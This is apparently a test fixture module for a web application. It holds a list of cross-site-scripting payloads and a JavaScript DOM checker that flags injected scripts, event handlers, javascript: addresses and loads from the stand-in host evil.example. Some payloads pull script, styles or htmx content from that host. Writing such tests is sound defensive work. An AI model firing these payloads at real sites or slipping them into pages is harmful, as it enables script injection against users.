"""Texts that want to be scripts: typed into every field, they must be shown as what they are."""

# Each would call `alert`, or fetch it from elsewhere, if it were taken for HTML, a script or an address.
PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example></script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)>x",
    "<math><a href=javascript:alert(1)>x",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>押す</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>",
    "<button formaction=javascript:alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content=0;url=//a>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import'//evil.example'</style>",
    "<div style=background:url(javascript:alert(1))>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "` onmouseover=alert(1)",
    "javascript:alert(1)",
    "[押す](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    '[x](https://a.example/"onmouseover="alert(1))',
    '![x](x"onerror="alert(1))',
    "<https://a.example/?<script>alert(1)</script>>",
    "**<img src=x onerror=alert(1)>**",
    "@demo-staff<img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% debug %}${alert(1)}<%= 1 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>\u202c",
    "x' hx-on:click='alert(1)' hx-get='//evil.example' hx-trigger='load'",
    "<p hx-get=//evil.example hx-trigger=load>",
    "<p data-reveal=x data-once onclick=alert(1)>",
)

# What of it has become part of a page, if anything: asked in the page itself.
FOUND = """() => {
  const found = window.called ? ["a script ran"] : [];
  const strange = ["iframe", "object", "embed", "base", "marquee", "math", "audio", "video"];
  for (const element of document.querySelectorAll("*")) {
    const tell = (what) => found.push(`${what}: ${element.outerHTML.slice(0, 160)}`);
    const name = element.localName;
    if (strange.includes(name)) tell("element");
    if (name === "script" && !element.src && element.type !== "application/json") tell("inline script");
    if (name === "meta" && element.httpEquiv) tell("meta");
    for (const {name: key, value} of element.attributes) {
      const leads = ["href", "src", "action", "formaction"].includes(key);
      if (key.startsWith("on") || key.startsWith("hx-on")) tell("handler");
      if (leads && /^\\s*(javascript|data|vbscript):/i.test(value)) tell("address");
      if (key !== "href" && /^(https?:)?\\/\\/(evil\\.example|a\\b)/.test(value)) tell("foreign");
    }
  }
  return found;
}"""
